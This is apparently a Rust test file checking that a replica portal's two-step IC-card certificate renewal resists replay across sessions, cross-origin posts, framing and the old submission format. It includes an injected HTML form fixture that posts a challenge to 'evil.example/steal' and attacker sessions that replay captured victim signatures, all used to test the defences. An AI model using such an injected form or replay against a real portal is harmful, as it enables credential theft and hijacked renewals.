//! What the two-step renewal contract defends against: challenges that are single use and per session, a current
//! card's consent that cannot be paired with another new card, cross-site calls, framing, the old four-field
//! submission, and HTML injected into the menu page (the test fixture).

mod common;

use common::*;
use ebid_protocol::SignPurpose;
use replica_portal::{paths, PortalConfig};

#[test]
fn step_two_without_step_one_is_an_expired_session() {
    let (portal, current, _) = portal_with_registered_card();
    let mut browser = Browser::in_session(&portal);
    let made_up = b64(&[7u8; 32]);
    let signature = current.sign(portal.origin(), &[7u8; 32], SignPurpose::RenewCurrent, b"");
    let page = post_current(&mut browser, &made_up, &current, &signature);
    assert_json_refusal(&page, 409, "session_expired", "画面の有効期限が切れました");
    assert_eq!(page.json()["error"]["registration_pointer"], false);
    // Step 3 without step 2 likewise.
    let new = Card::issue(&CardSpec::new_card());
    let signature = new.sign(
        portal.origin(),
        &[7u8; 32],
        SignPurpose::RenewNew,
        &current.der,
    );
    let page = post_new(&mut browser, &made_up, &new, &signature);
    assert_json_refusal(&page, 409, "session_expired", "画面の有効期限が切れました");
}

#[test]
fn the_endpoints_need_a_session_the_portal_made() {
    let (portal, current, _) = portal_with_registered_card();
    for cookie in [None, Some("JSESSIONID=0123456789ABCDEF0123456789ABCDEF")] {
        let mut browser = Browser::new(&portal);
        if let Some(cookie) = cookie {
            browser.extra_headers.push(("Cookie".into(), cookie.into()));
        }
        for path in paths::RENEW_API.into_iter().chain(paths::CARD_API) {
            let page = browser.post_raw(path, "application/x-www-form-urlencoded", b"");
            assert_json_refusal(&page, 409, "session_expired", "画面の有効期限が切れました");
            // The endpoints do not hand out sessions.
            assert_eq!(page.header("Set-Cookie"), None, "{path}");
        }
    }
    // With the cookie of a menu view they work.
    let mut browser = Browser::new(&portal);
    let menu = browser.get(paths::MENU);
    assert!(menu
        .header("Set-Cookie")
        .is_some_and(|c| c.starts_with("JSESSIONID=") && c.contains("HttpOnly")));
    let step2 = prove_current(&mut browser, portal.origin(), &current);
    assert_eq!(step2.status, 200);
}

#[test]
fn first_challenge_is_single_use_and_per_session() {
    let (portal, current, _) = portal_with_registered_card();
    let mut browser = Browser::in_session(&portal);
    let (challenge_b64, challenge) = fetch_challenge(&mut browser);
    let signature = current.sign(portal.origin(), &challenge, SignPurpose::RenewCurrent, b"");

    // Another session cannot use this session's challenge, even after fetching its own.
    let mut other = Browser::in_session(&portal);
    let page = post_current(&mut other, &challenge_b64, &current, &signature);
    assert_json_refusal(&page, 409, "session_expired", "画面の有効期限が切れました");
    fetch_challenge(&mut other);
    let page = post_current(&mut other, &challenge_b64, &current, &signature);
    assert_eq!(page.error_code(), "session_expired");

    let step2 = post_current(&mut browser, &challenge_b64, &current, &signature);
    assert_eq!(step2.status, 200);
    // Replaying step 2 fails: the first challenge was used.
    let replay = post_current(&mut browser, &challenge_b64, &current, &signature);
    assert_json_refusal(
        &replay,
        409,
        "session_expired",
        "画面の有効期限が切れました",
    );

    // A failed step 2 consumes it too.
    let (challenge_b64, challenge) = fetch_challenge(&mut browser);
    let page = post_current(&mut browser, &challenge_b64, &current, b"not a signature");
    assert_eq!(page.error_code(), "bad_signature");
    let signature = current.sign(portal.origin(), &challenge, SignPurpose::RenewCurrent, b"");
    let page = post_current(&mut browser, &challenge_b64, &current, &signature);
    assert_eq!(page.error_code(), "session_expired");

    // A newer challenge replaces an older one.
    let (old_b64, old) = fetch_challenge(&mut browser);
    let (_, _) = fetch_challenge(&mut browser);
    let signature = current.sign(portal.origin(), &old, SignPurpose::RenewCurrent, b"");
    assert_eq!(
        post_current(&mut browser, &old_b64, &current, &signature).error_code(),
        "session_expired"
    );
}

#[test]
fn second_challenge_is_single_use() {
    let (portal, current, user_id) = portal_with_registered_card();
    let new = Card::issue(&CardSpec::new_card());
    let mut browser = Browser::in_session(&portal);
    let step2 = prove_current(&mut browser, portal.origin(), &current);
    let (second_b64, second) = challenge_of(&step2);
    let signature = new.sign(
        portal.origin(),
        &second,
        SignPurpose::RenewNew,
        &current.der,
    );
    assert_eq!(
        post_new(&mut browser, &second_b64, &new, &signature).status,
        200
    );
    let replay = post_new(&mut browser, &second_b64, &new, &signature);
    assert_json_refusal(
        &replay,
        409,
        "session_expired",
        "画面の有効期限が切れました",
    );
    // The replay also forgot the verified renewal: nothing to confirm or commit.
    assert_eq!(browser.get(paths::RENEW_CONFIRM).status, 409);
    assert_eq!(browser.post_form(paths::RENEW_COMMIT, &[]).status, 409);

    // A failed step 3 consumes the second challenge and forgets the proven current card: restart at step 1.
    let step2 = prove_current(&mut browser, portal.origin(), &current);
    let (second_b64, second) = challenge_of(&step2);
    let foreign = Card::issue(&CardSpec {
        foreign_ca: true,
        ..CardSpec::new_card()
    });
    let wrong = foreign.sign(
        portal.origin(),
        &second,
        SignPurpose::RenewNew,
        &current.der,
    );
    assert_eq!(
        post_new(&mut browser, &second_b64, &foreign, &wrong).error_code(),
        "unknown_ca"
    );
    let signature = new.sign(
        portal.origin(),
        &second,
        SignPurpose::RenewNew,
        &current.der,
    );
    assert_eq!(
        post_new(&mut browser, &second_b64, &new, &signature).error_code(),
        "session_expired"
    );
    // A wrong challenge at step 3 likewise forgets the proven card.
    let step2 = prove_current(&mut browser, portal.origin(), &current);
    let (second_b64, second) = challenge_of(&step2);
    let signature = new.sign(
        portal.origin(),
        &second,
        SignPurpose::RenewNew,
        &current.der,
    );
    assert_eq!(
        post_new(&mut browser, &b64(&[1u8; 32]), &new, &signature).error_code(),
        "session_expired"
    );
    assert_eq!(
        post_new(&mut browser, &second_b64, &new, &signature).error_code(),
        "session_expired"
    );
    assert_eq!(portal.user(&user_id).unwrap().certificate, current.b64());
}

#[test]
fn first_challenge_is_no_second_challenge() {
    let (portal, current, _) = portal_with_registered_card();
    let new = Card::issue(&CardSpec::new_card());
    let mut browser = Browser::in_session(&portal);
    let (first_b64, first) = fetch_challenge(&mut browser);
    let old_sig = current.sign(portal.origin(), &first, SignPurpose::RenewCurrent, b"");
    let step2 = post_current(&mut browser, &first_b64, &current, &old_sig);
    assert_eq!(step2.status, 200);
    // The new card signs the first challenge (what the old one-challenge flow had it do): refused.
    let new_sig = new.sign(portal.origin(), &first, SignPurpose::RenewNew, &current.der);
    let page = post_new(&mut browser, &first_b64, &new, &new_sig);
    assert_json_refusal(&page, 409, "session_expired", "画面の有効期限が切れました");
    // And the first challenge cannot be answered at step 2 again.
    let page = post_current(&mut browser, &first_b64, &current, &old_sig);
    assert_eq!(page.error_code(), "session_expired");
}

#[test]
fn a_consent_from_session_a_is_worthless_in_session_b() {
    let (portal, current, user_id) = portal_with_registered_card();
    let mut victim = Browser::in_session(&portal);
    let (a_b64, a) = fetch_challenge(&mut victim);
    let a_signature = current.sign(portal.origin(), &a, SignPurpose::RenewCurrent, b"");

    let mut attacker = Browser::in_session(&portal);
    // Session A's challenge and signature, posted in session B: B has no such challenge.
    let page = post_current(&mut attacker, &a_b64, &current, &a_signature);
    assert_json_refusal(&page, 409, "session_expired", "画面の有効期限が切れました");
    // B's own challenge with A's signature: the signature does not verify.
    let (b_b64, _) = fetch_challenge(&mut attacker);
    let page = post_current(&mut attacker, &b_b64, &current, &a_signature);
    assert_json_refusal(
        &page,
        403,
        "bad_signature",
        "ICカードの署名を確認できませんでした",
    );
    // Nothing was proven in B: a new card has nothing to pair with.
    let attackers_card = Card::issue(&CardSpec {
        key: 3,
        serial: 666,
        ..CardSpec::new_card()
    });
    let signature = attackers_card.sign(portal.origin(), &a, SignPurpose::RenewNew, &current.der);
    let page = post_new(&mut attacker, &a_b64, &attackers_card, &signature);
    assert_json_refusal(&page, 409, "session_expired", "画面の有効期限が切れました");

    // The victim's own flow is unharmed.
    let new = Card::issue(&CardSpec::new_card());
    let step2 = post_current(&mut victim, &a_b64, &current, &a_signature);
    assert_eq!(step2.status, 200);
    assert_eq!(
        pair_new(&mut victim, portal.origin(), &step2, &current, &new).status,
        200
    );
    assert_eq!(victim.post_form(paths::RENEW_COMMIT, &[]).status, 200);
    assert_eq!(portal.user(&user_id).unwrap().certificate, new.b64());
}

#[test]
fn a_consent_made_in_session_a_cannot_be_paired_in_session_b_with_another_card() {
    let (portal, current, user_id) = portal_with_registered_card();
    // The victim's current card consents in session A; step 2 succeeds there.
    let mut victim = Browser::in_session(&portal);
    let (a_b64, a) = fetch_challenge(&mut victim);
    let a_signature = current.sign(portal.origin(), &a, SignPurpose::RenewCurrent, b"");
    let victim_step2 = post_current(&mut victim, &a_b64, &current, &a_signature);
    assert_eq!(victim_step2.status, 200);
    let (a_second_b64, a_second) = challenge_of(&victim_step2);

    // The attacker captured everything the victim sent and received, and brings their own new card to session B.
    let attackers_card = Card::issue(&CardSpec {
        key: 3,
        serial: 666,
        ..CardSpec::new_card()
    });
    let mut attacker = Browser::in_session(&portal);
    let page = post_current(&mut attacker, &a_b64, &current, &a_signature);
    assert_eq!(page.error_code(), "session_expired");
    let signature = attackers_card.sign(
        portal.origin(),
        &a_second,
        SignPurpose::RenewNew,
        &current.der,
    );
    let page = post_new(&mut attacker, &a_second_b64, &attackers_card, &signature);
    assert_json_refusal(&page, 409, "session_expired", "画面の有効期限が切れました");
    // Even after proving nothing with a fresh B challenge, the captured consent does not verify.
    let (b_b64, _) = fetch_challenge(&mut attacker);
    assert_eq!(
        post_current(&mut attacker, &b_b64, &current, &a_signature).error_code(),
        "bad_signature"
    );
    assert_eq!(attacker.get(paths::RENEW_CONFIRM).status, 409);
    assert_eq!(attacker.post_form(paths::RENEW_COMMIT, &[]).status, 409);
    assert_eq!(portal.user(&user_id).unwrap().certificate, current.b64());
    assert!(portal.pending().is_empty());
}

#[test]
fn foreign_origin_is_refused_before_anything_is_consumed() {
    let (portal, current, _) = portal_with_registered_card();
    let mut browser = Browser::in_session(&portal);
    let (challenge_b64, challenge) = fetch_challenge(&mut browser);
    let signature = current.sign(portal.origin(), &challenge, SignPurpose::RenewCurrent, b"");
    for foreign in [
        "https://evil.example",
        "null",
        "http://127.0.0.1:1",
        "http://localhost",
    ] {
        browser.extra_headers = vec![("Origin".into(), foreign.into())];
        for path in paths::RENEW_API.into_iter().chain(paths::CARD_API) {
            let page = browser.post_form(
                path,
                &[
                    ("challenge", &challenge_b64),
                    ("oldCertificate", &current.b64()),
                    ("oldSignature", &b64(&signature)),
                ],
            );
            assert_json_refusal(&page, 403, "foreign_origin", "この画面からは送信できません");
        }
    }
    // Two Origin headers, one of them foreign: refused.
    browser.extra_headers = vec![
        ("Origin".into(), portal.origin().into()),
        ("Origin".into(), "https://evil.example".into()),
    ];
    assert_eq!(
        browser
            .post_raw(paths::RENEW_CHALLENGE, "text/plain", b"")
            .error_code(),
        "foreign_origin"
    );
    // The portal's own origin (what a browser's fetch sends) is accepted, and the challenge is still live.
    browser.extra_headers = vec![("Origin".into(), portal.origin().into())];
    let step2 = post_current(&mut browser, &challenge_b64, &current, &signature);
    assert_eq!(step2.status, 200, "{}", String::from_utf8_lossy(&step2.raw));
}

#[test]
fn pages_refuse_framing_by_default() {
    let (portal, _, _) = portal_with_registered_card();
    let mut browser = Browser::new(&portal);
    for path in [
        paths::FRAMESET,
        paths::HEADER,
        paths::MENU,
        paths::RENEW_CONFIRM,
        paths::LOGIN_PAGE,
        paths::LOGIN_RESULT,
        paths::REGIST_SEARCH,
        paths::REGIST_INPUT,
        paths::CHANGE_INPUT,
        paths::ADMIN_RENEWALS,
        paths::ADMIN_REGISTRATIONS,
        "/nothing/here",
    ] {
        let page = browser.get(path);
        assert_eq!(
            page.header("Content-Security-Policy"),
            Some("frame-ancestors 'self'"),
            "{path}"
        );
        assert_eq!(page.header("X-Frame-Options"), Some("SAMEORIGIN"), "{path}");
    }
}

#[test]
fn allow_framing_drops_the_framing_headers() {
    let dir = temp_dir("framing");
    let portal = start_with(PortalConfig {
        data_dir: dir,
        allow_framing: true,
        ..PortalConfig::default()
    });
    let mut browser = Browser::new(&portal);
    for path in [paths::FRAMESET, paths::MENU, paths::RENEW_CONFIRM] {
        let page = browser.get(path);
        assert!(page.status < 500);
        assert_eq!(page.header("Content-Security-Policy"), None, "{path}");
        assert_eq!(page.header("X-Frame-Options"), None, "{path}");
    }
}

#[test]
fn injected_html_appears_raw_before_the_genuine_form() {
    let dir = temp_dir("injected");
    let portal = start(&dir);
    let mut browser = Browser::new(&portal);
    let injected = "<form name=\"frmRenew\" action=\"https://evil.example/steal\" method=\"post\">\
<input type=\"hidden\" name=\"challenge\" value=\"QUFBQQ==\">\
<input type=\"button\" name=\"btnIcRenew\" value=\"ICカード更新\"></form>\
<a href=\"https://evil.example/\">お知らせ😀</a>";
    std::fs::write(dir.join("injected.html"), injected).unwrap();
    let menu = browser.get(paths::MENU);
    assert_eq!(menu.status, 200);
    // Raw (unescaped); the character Shift_JIS lacks becomes a numeric character reference.
    let expected = format!(
        "<div id=\"injected\">{}</div>",
        injected.replace('😀', "&#128512;")
    );
    let at = menu
        .html
        .find(&expected)
        .unwrap_or_else(|| panic!("injected markup missing:\n{}", menu.html));
    let genuine = menu
        .html
        .find("<form name=\"frmRenew\" id=\"frmRenew\"")
        .expect("genuine form");
    assert!(
        at < genuine,
        "the injection comes just before the genuine form"
    );
    assert!(menu.html[at + expected.len()..genuine].trim().is_empty());

    // Read on every request: gone when the file is.
    std::fs::remove_file(dir.join("injected.html")).unwrap();
    let menu = browser.get(paths::MENU);
    assert!(!menu.html.contains("id=\"injected\""));
    assert!(!menu.html.contains("evil.example"));
}

#[test]
fn the_old_four_field_submission_verifies_nothing() {
    let (portal, current, user_id) = portal_with_registered_card();
    let new = Card::issue(&CardSpec::new_card());
    let mut browser = Browser::in_session(&portal);
    let (challenge_b64, challenge) = fetch_challenge(&mut browser);
    let fields = [
        ("challenge", challenge_b64.clone()),
        ("oldCertificate", current.b64()),
        (
            "oldSignature",
            b64(&current.sign(portal.origin(), &challenge, SignPurpose::RenewCurrent, b"")),
        ),
        ("newCertificate", new.b64()),
        (
            "newSignature",
            b64(&new.sign(
                portal.origin(),
                &challenge,
                SignPurpose::RenewNew,
                &current.der,
            )),
        ),
    ];
    let fields: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let page = browser.post_form(paths::RENEW_CONFIRM, &fields);
    assert_eq!(page.status, 405, "{}", page.text());
    assert_eq!(page.header("Allow"), Some("GET"));
    assert!(!page.text().contains("電子証明書更新確認"));
    // Nothing verified: no confirmation, nothing to commit.
    assert_eq!(browser.get(paths::RENEW_CONFIRM).status, 409);
    assert_eq!(browser.post_form(paths::RENEW_COMMIT, &[]).status, 409);
    assert_eq!(portal.user(&user_id).unwrap().certificate, current.b64());
    assert!(portal.pending().is_empty() && portal.mail_outbox().is_empty());
}
